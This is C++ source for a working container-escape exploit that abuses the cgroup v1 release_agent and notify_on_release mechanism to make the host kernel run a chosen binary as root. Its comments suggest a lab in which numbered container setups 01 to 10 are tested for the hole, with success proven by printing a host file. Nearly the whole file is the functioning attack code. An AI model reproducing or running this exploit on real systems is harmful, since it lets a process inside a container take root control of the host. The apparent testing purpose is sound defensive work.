// Makes the host run a program as root: when a cgroup of version 1 becomes empty, the kernel starts what
// `release_agent` of its hierarchy names, outside of all containers. Works in 01 to 08. 09 closes it: the
// hierarchy belongs to the host's root. So does 10 without a user namespace: no mount(2).
//
//   /escape FILE HIERARCHY IMAGE     FILE of the host is printed as proof; exit status 0: escaped, 1: held
//
// HIERARCHY is the name of a hierarchy that the container was not moved in, IMAGE the directory of the
// image on the host. An attacker reads both: in /proc/self/cgroup and in /proc/self/mountinfo.

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "host_helper.h"

namespace {

bool write_file(const std::string& path, const std::string& text) {
  const int fd = open(path.c_str(), O_WRONLY);
  const bool written =
      fd != -1 && write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
  if (!written) std::perror(("held: open(" + path + ")").c_str());
  if (fd != -1) close(fd);
  return written;
}

// A cgroup that a process enters, and leaves by its end: empty from then on.
bool fill_and_empty(const std::string& cgroup) {
  if (mkdir(cgroup.c_str(), 0755) == -1) {
    std::perror("held: mkdir of a cgroup");
    return false;
  }
  if (!write_file(cgroup + "/notify_on_release", "1")) return false;
  const pid_t pid = fork();
  if (pid == 0) _exit(write_file(cgroup + "/tasks", "0") ? 0 : 1);
  int status = 0;
  waitpid(pid, &status, 0);
  return status == 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (is_order(argc, argv)) return run_order(argv[1]);
  if (argc != 4) {
    std::fputs("usage: /escape FILE HIERARCHY IMAGE\n", stderr);
    return 1;
  }

  const Order order(argv[1]);
  const char* top = "/mnt";
  if (mount("lab-escape", top, "cgroup", 0, (std::string("name=") + argv[2]).c_str()) == -1) {
    std::perror("held: mount of a cgroup hierarchy");
    return 1;
  }
  const std::string agent = std::string(top) + "/release_agent";
  const std::string cgroup = top + order.name();
  int status = 1;
  if (write_file(agent, argv[3] + std::string("/escape"))) {
    // The kernel calls the agent with the cgroup's path below the hierarchy: here, the order's name.
    if (fill_and_empty(cgroup)) status = order.verdict();
    rmdir(cgroup.c_str());
    write_file(agent, "\n");
  }
  umount2(top, MNT_DETACH);
  return status;
}
